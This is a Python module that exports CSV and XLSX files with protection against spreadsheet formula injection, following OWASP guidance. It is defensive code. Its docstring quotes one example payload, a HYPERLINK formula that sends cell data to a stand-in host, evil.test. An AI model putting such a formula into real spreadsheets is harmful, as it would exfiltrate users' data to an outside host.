"""The only way Pépinière writes CSV and XLSX: text can never become a formula.

Applicant text such as `=HYPERLINK("http://evil.test/?x="&A1,"x")` or `=1+1` must reach the
officer's spreadsheet as the text it is. Following OWASP's CSV injection guidance, a text cell whose
first non-blank character is `=`, `+`, `-`, `@` (or their full-width forms), a tab or a carriage
return gets a leading single quote, in CSV and in XLSX alike (an XLSX re-saved as CSV, or a cell
edited and confirmed, would otherwise turn it live). XLSX text cells are also always written as
string cells, so openpyxl never stores them as formulas. Numbers and dates stay numbers and dates:
a negative amount is a number, never neutralised text.

Every export goes through `SafeCsvWriter` or `SafeXlsxSheet`;
`pepiniere/tests_project/test_spreadsheet_exports.py` fails when code elsewhere calls `csv.writer`
or openpyxl's `Workbook` directly."""

from __future__ import annotations

import csv
import datetime
from collections.abc import Callable, Iterable
from decimal import Decimal
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles import Font

type CellValue = str | int | float | Decimal | datetime.datetime | datetime.date | None

FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
# A cell whose first character is none of these is never changed by `neutralise` (it strips
# only these blanks before looking): the million-row writer tests that alone.
_SUSPECT_FIRST = FORMULA_TRIGGERS | frozenset(" \u00a0\n")


def neutralise(text: str) -> str:
    """The text, with a leading `'` when a spreadsheet could read it as a formula."""
    stripped = text.lstrip(" \u00a0\n")
    if stripped and stripped[0] in FORMULA_TRIGGERS:
        return "'" + text
    return text


def unneutralise(text: str) -> str:
    """The text a cell held before `neutralise` (a CSV the platform wrote, read back)."""
    return text[1:] if text.startswith("'") and text[1:2] in FORMULA_TRIGGERS else text


def _is_number(value: object) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def _plain_number(value: int | float | Decimal) -> str:
    return str(value)


def decimal_comma(text: str) -> str:
    """« 40000.50 » → « 40000,50 »: what a French spreadsheet reads as a number in a `;`-separated
    file (with a point it reads text, or a date). Only for number cells, after formatting."""
    return text.replace(".", ",")


class SafeCsvWriter:
    """`csv.writer` whose text cells are neutralised; numbers are written with `number_format`."""

    def __init__(
        self,
        out: IO[str],
        *,
        number_format: Callable[[Any], str] = _plain_number,
        **fmtparams: Any,
    ) -> None:
        self._writer = csv.writer(out, **fmtparams)
        self._number_format = number_format

    def cell(self, value: CellValue) -> str:
        if type(value) is str:  # most cells: skip the number and date tests
            return neutralise(value)
        if value is None:
            return ""
        if _is_number(value):
            return self._number_format(value)
        if isinstance(value, datetime.date):
            return value.isoformat()
        return neutralise(str(value))

    def writerow(self, values: Iterable[CellValue]) -> None:
        self._writer.writerow([self.cell(v) for v in values])

    def writerow_text(self, values: Iterable[str]) -> None:
        """A row whose cells are all text already (numbers and dates formatted by the caller):
        the same neutralising, without the type tests — for files of a million rows."""
        self._writer.writerow(
            [neutralise(v) if v and v[0] in _SUSPECT_FIRST else v for v in values]
        )


class SafeXlsxSheet:
    """A write-only workbook with one sheet; text cells are neutralised string cells."""

    def __init__(self, title: str) -> None:
        self._workbook = Workbook(write_only=True)
        self._sheet = self._workbook.create_sheet(title)

    def cell(
        self, value: CellValue, *, number_format: str | None = None, bold: bool = False
    ) -> Cell:
        if value is None:
            value = ""
        if isinstance(value, datetime.datetime) and value.tzinfo is not None:
            raise ValueError("XLSX dates are naive: convert to local time first")
        if _is_number(value) or isinstance(value, datetime.date):
            # types-openpyxl leave Decimal out of WriteOnlyCell's value; openpyxl writes it.
            cell = WriteOnlyCell(self._sheet, value=value)  # type: ignore[arg-type]
        else:
            cell = WriteOnlyCell(self._sheet, value=neutralise(str(value)))
            # Whatever the text, a string cell: openpyxl would store a leading "=" as a formula.
            cell.data_type = "s"
        if number_format:
            cell.number_format = number_format
        if bold:
            cell.font = Font(bold=True)
        return cell

    def append(self, cells: Iterable[Cell | CellValue]) -> None:
        self._sheet.append([c if isinstance(c, Cell) else self.cell(c) for c in cells])

    def save(self, out: IO[bytes]) -> None:
        self._workbook.save(out)
